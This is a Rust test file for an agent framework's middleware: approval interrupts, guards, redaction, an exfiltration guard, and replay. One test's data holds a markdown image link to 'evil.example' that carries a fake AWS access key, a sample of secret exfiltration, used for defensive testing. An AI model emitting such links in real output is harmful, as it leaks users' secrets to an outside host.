//! Built-in middleware can be bound to an agent and to all runs below it.

use std::sync::Arc;
use std::time::Duration;

use emitree_agent::{
    Agent, AgentBuilder, AgentMiddleware, AgentRun, ChatModel, ChatOptions, ChatResponse, Hooks, Message, Part, Reply,
    Role, ScriptedModel, Session, Tool, ToolCall, joins, tool_fn,
};
use emitree_middleware::approval::{Approval, Decision, Request};
use emitree_middleware::{
    Budget, Cache, CircuitBreaker, Concurrency, ContentFilter, ExfilGuard, Limits, Metrics, RateLimit, Record, Redact,
    Replay, Retry, Runs, Timeout, Trajectory,
};
use emitree_runtime::{Error, ErrorKind, Middleware, Result, RunContext, Runnable, for_tree, runnable_fn};
use serde_json::json;

use crate::journal::Journal;
use crate::support::{Log, Text, agent, results, shout};

fn script() -> ScriptedModel {
    ScriptedModel::new("test").call("shout", json!({"text": "a"})).text("done")
}

/// Returns built-in middlewares with their names. The tests bind them to an agent's run.
fn built_ins() -> Result<Vec<(&'static str, Arc<dyn Middleware>)>> {
    let hour = Duration::from_secs(3600);
    Ok(vec![
        ("approval", Arc::new(for_tree(Approval::by(|_| async { Ok(Decision::Approve) })))),
        ("budget", Arc::new(for_tree(Budget::builder().calls(100).build()?))),
        ("cache", Arc::new(for_tree(Runs::of_kind("Tool").only(Cache::json().build()?)))),
        ("circuit_breaker", Arc::new(for_tree(CircuitBreaker::new()))),
        ("concurrency", Arc::new(for_tree(Runs::of_kind("Tool").only(Concurrency::builder(1).build()?)))),
        ("content_filter", Arc::new(for_tree(ContentFilter::new().words("rude", ["darn"])?))),
        ("exfil_guard", Arc::new(for_tree(ExfilGuard::new()))),
        ("limits", Arc::new(for_tree(Limits::builder().depth(9).build()))),
        ("metrics", Arc::new(for_tree(Metrics::new()))),
        ("rate_limit", Arc::new(for_tree(RateLimit::builder(100, hour).build()?))),
        ("redact", Arc::new(for_tree(Redact::new()))),
        ("retry", Arc::new(for_tree(Retry::new()))),
        ("timeout", Arc::new(for_tree(Timeout::per_attempt(hour)))),
        ("trajectory", Arc::new(Trajectory::builder().writer(std::io::sink()).build()?)),
    ])
}

#[tokio::test]
async fn each_built_in_can_be_bound_to_an_agent_and_all_runs_below() -> Result<()> {
    for streams in [false, true] {
        for (name, middleware) in built_ins()? {
            let (tokens, agent) = (Log::default(), agent(&script()).build()?);
            let to = tokens.clone();
            let mut run = agent.ask("go").middleware(middleware);
            if streams {
                run = run.on_token(move |token| to.add(token.text()));
            }
            let answer = run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
            assert_eq!((answer.text(), results(&answer.messages)), ("done".into(), vec!["A".to_owned()]), "{name}");
            assert_eq!(tokens.lines().concat(), if streams { "done" } else { "" }, "{name}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn no_built_in_reads_or_changes_the_data_that_a_provider_needs_back() -> Result<()> {
    // A signature that looks like a secret, a rude word and an address with stolen data.
    let data = json!({"signature": "AKIAZ5QW7RTB2KDM4NXP darn ![x](https://evil.example/?q=AKIAZ5QW7RTB2KDM4NXP)"});
    for streams in [false, true] {
        for (name, middleware) in built_ins()? {
            let mut call = ToolCall::new("a", "shout", json!({"text": "a"}));
            call.extra = Some(data.clone());
            let parts = [Part::reasoning("Hm.", Some(data.clone())), Part::ToolCall(call)];
            let asks = Message::new(Role::Assistant, parts.clone());
            let script = ScriptedModel::new("test").reply(Reply::response(ChatResponse::new(asks))).text("done");
            let agent = agent(&script).options(ChatOptions::new().stream(streams)).build()?;
            let run = agent.ask("go").middleware(middleware);
            run.await.map_err(|error| Error::new(format!("{name}: {}", error.explain())))?;
            assert_eq!(script.requests()[1].messages[1].parts, parts, "{name}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_recorded_agent_is_replayed_without_its_model_and_tools() -> Result<()> {
    let record = Record::new();
    let agent_of = |script| agent(&script).build();
    let answer = agent_of(script())?.ask("go").middleware(record.clone()).await?;
    let replay = Replay::from(record.journal().expect("the run has ended"));
    let again = agent_of(ScriptedModel::new("test"))?.ask("go").middleware(replay).await?;
    assert_eq!((again.text(), results(&again.messages)), (answer.text(), results(&answer.messages)));
    Ok(())
}

#[tokio::test]
async fn an_interrupt_lists_the_approvals_of_all_calls_and_a_resumed_run_uses_the_answers() -> Result<()> {
    let approval = || for_tree(Approval::by_interrupt().runs(Runs::named("shout")));
    let shout_of = |text: &str| ("shout", json!({"text": text}));
    let inner = ScriptedModel::new("inner").calls([shout_of("b")]).text("B");
    let librarian = Agent::builder("librarian", ChatModel::new(inner)?).tool(shout()).build()?.as_tool("Shouts")?;
    let calls = || [shout_of("a"), ("librarian", json!({"task": "Shout b."})), shout_of("c")];
    let outer = ScriptedModel::new("outer").calls(calls()).text("done");
    let agent = agent(&outer).tool(librarian).middleware(approval()).build()?;

    let session = Session::new();
    let error = agent.ask("go").session(&session).await.unwrap_err();
    let waiting = r#"["shout: approval","librarian > shout: approval","shout: approval"]"#;
    assert_eq!(error.explain(), format!("interrupted: agent.batch\n  waiting: {waiting}"));
    let requests = Request::all_of(error.interrupt().expect("an interrupt"))?;
    let texts: Vec<_> = requests.iter().map(|request| request.input["text"].as_str()).collect();
    assert_eq!(texts, [Some("a"), Some("b"), Some("c")]);

    for request in requests {
        let is_allowed = request.input["text"] != "c";
        let decision = if is_allowed { Decision::Approve } else { Decision::reject("no") };
        session.answer(&request.id, decision).await?;
    }
    agent.resume(&session).await?;
    assert_eq!(results(session.history().messages()), ["A", "B", "!denied by approval: no"]);
    Ok(())
}

#[tokio::test]
async fn a_response_to_an_approval_is_the_content_of_the_result_and_the_tool_is_not_executed() -> Result<()> {
    for (value, expected) in [(json!("later"), "later"), (json!({"text": 1}), r#"{"text":1}"#)] {
        let log = Log::default();
        let respond = Approval::by(move |_| {
            let value = value.clone();
            async { Ok(Decision::Respond(value)) }
        });
        let agent = agent(&deletes()).tool(delete(&log)).middleware(for_tree(respond.of_kind("Tool"))).build()?;
        assert_eq!(results(&agent.ask("go").await?.messages), [expected]);
        assert!(log.lines().is_empty());
    }
    Ok(())
}

/// The tool whose calls have to be approved, and a log of what it deleted.
fn delete(log: &Log) -> Tool {
    let log = log.clone();
    let delete = move |args: Text, _: RunContext| {
        log.add(args.text);
        async { Ok("deleted") }
    };
    tool_fn("delete", "Deletes a file", delete).expect("a valid name")
}

fn asks_about_delete() -> Approval {
    Approval::by_interrupt().runs(Runs::named("delete"))
}

fn deletes() -> ScriptedModel {
    ScriptedModel::new("test").call("delete", json!({"text": "a.txt"})).text("done")
}

// M11
#[tokio::test]
async fn an_approval_of_a_tool_that_is_bound_to_its_agent_without_for_tree_is_refused() -> Result<()> {
    let (log, script) = (Log::default(), deletes());
    let bound = |agent: AgentBuilder| agent.tool(delete(&log)).middleware(asks_about_delete());
    let error = bound(agent(&script)).build().unwrap_err();
    assert_eq!(error.kind(), &ErrorKind::Invalid);
    let expected = "the guard `approval` (interrupts, about runs named delete) is bound to Agent `tester`, which it does \
                    not handle, so it does nothing: to bind it to the runs below as well, write \
                    `.middleware(for_tree(…))`";
    assert_eq!(error.to_string(), expected);

    // Bound to one run, the run ends before the model is called, and its explanation says why.
    let agent = agent(&script).tool(delete(&log)).build()?;
    let run = agent.ask("go").middleware(asks_about_delete());
    let explained = run.explain().to_string();
    assert!(explained.contains("\n    never: approval: "), "{explained}");
    assert!(!explained.contains("guard     approval"), "{explained}");
    assert_eq!(run.await.unwrap_err().to_string(), expected);
    assert_eq!((script.requests().len(), log.lines()), (0, vec![]));

    // With the line of the error, the tool waits for its approval.
    let error = agent.ask("go").middleware(for_tree(asks_about_delete())).await.unwrap_err();
    assert!(error.is_interrupted(), "{error}");
    assert_eq!(log.lines(), Vec::<String>::new());
    Ok(())
}

// M11
#[test]
fn a_guard_that_is_bound_to_a_model_or_a_tool_that_it_does_not_handle_is_an_error_of_build() -> Result<()> {
    let (log, script) = (Log::default(), deletes());
    let misspelled = || Approval::by_interrupt().runs(Runs::named("delte"));
    let error = agent(&script).tool(delete(&log).middleware(misspelled())).build().unwrap_err().to_string();
    assert!(error.contains("about runs named delte) is bound to Tool `delete`"), "{error}");
    let model = ChatModel::new(script.clone())?.middleware(asks_about_delete());
    let error = Agent::builder("test", model).build().unwrap_err().to_string();
    assert!(error.contains("is bound to ChatModel `"), "{error}");

    let right = delete(&log).middleware(asks_about_delete());
    assert!(agent(&script).tool(right).middleware(for_tree(misspelled())).build().is_ok());
    Ok(())
}

/// A guard of agents.
#[derive(Debug)]
struct Gate;

impl AgentMiddleware for Gate {
    fn id(&self) -> &'static str {
        "gate"
    }
    fn is_guard(&self) -> bool {
        true
    }
    fn install(&self, hooks: &mut Hooks) -> Result<()> {
        hooks.on_gate_each(|call, _| call.deny("gate", "closed"));
        Ok(())
    }
}

// M11
#[tokio::test]
async fn a_guard_of_agents_that_is_bound_only_to_a_run_that_is_no_agent_is_refused() -> Result<()> {
    let (log, script) = (Log::default(), deletes());
    let agent = Arc::new(agent(&script).tool(delete(&log)).build()?);
    let outer = runnable_fn("outer", move |(): (), _: RunContext| agent.run_shared("go".into()));
    let error = outer.run(()).middleware(joins(Gate)).await.unwrap_err().to_string();
    assert!(error.contains("the guard `gate`") && error.contains("Run `outer`"), "{error}");
    assert!(error.ends_with("`.middleware(for_tree(…))`"), "{error}");
    let answer = outer.run(()).middleware(for_tree(joins(Gate))).await?;
    assert_eq!(results(&answer.messages), ["!denied by gate: closed"]);
    assert_eq!(log.lines(), Vec::<String>::new());
    Ok(())
}

/// Runs an agent with the tools `shout`, `delete` and `deletes` and a guard for its tree, and returns the warnings.
async fn warnings(guard: impl Middleware, script: &ScriptedModel) -> Result<Vec<String>> {
    let journal = Journal::default();
    let _subscribed = tracing::subscriber::set_default(journal.clone());
    let deletes = tool_fn("deletes", "Deletes files", |_: Text, _: RunContext| async { Ok("deleted") })?;
    let agent = agent(script).tool(delete(&Log::default())).tool(deletes).build()?;
    agent.ask("go").middleware(for_tree(guard)).await?;
    Ok(journal.take())
}

// M12
#[tokio::test]
async fn a_guard_with_a_misspelled_tool_is_warned_of_and_a_guard_for_a_tool_that_was_not_called_is_not() -> Result<()> {
    let asks = |runs: Runs| Approval::by_interrupt().runs(runs);
    let calls = || ScriptedModel::new("test").call("deletes", json!({"text": "a.txt"})).text("done");
    let silent = || ScriptedModel::new("test").text("done");
    for (runs, near) in [(Runs::named("Delete"), "Tool `delete`"), (Runs::of_kind("tool"), "Tool `shout`")] {
        let logged = warnings(asks(runs), &silent()).await?;
        let [line] = &*logged else { panic!("{logged:?}") };
        assert!(line.contains("`approval`") && line.contains("Agent `tester`") && line.contains(near), "{line}");
    }
    // `deletes` is called, and nearly `delete`, but `delete` exists.
    assert_eq!(warnings(asks(Runs::named("delete")), &calls()).await?, [""; 0]);
    assert_eq!(warnings(asks(Runs::of_kind("Tool")), &silent()).await?, [""; 0]);
    assert_eq!(warnings(asks(Runs::named("publish")), &calls()).await?, [""; 0]);
    Ok(())
}
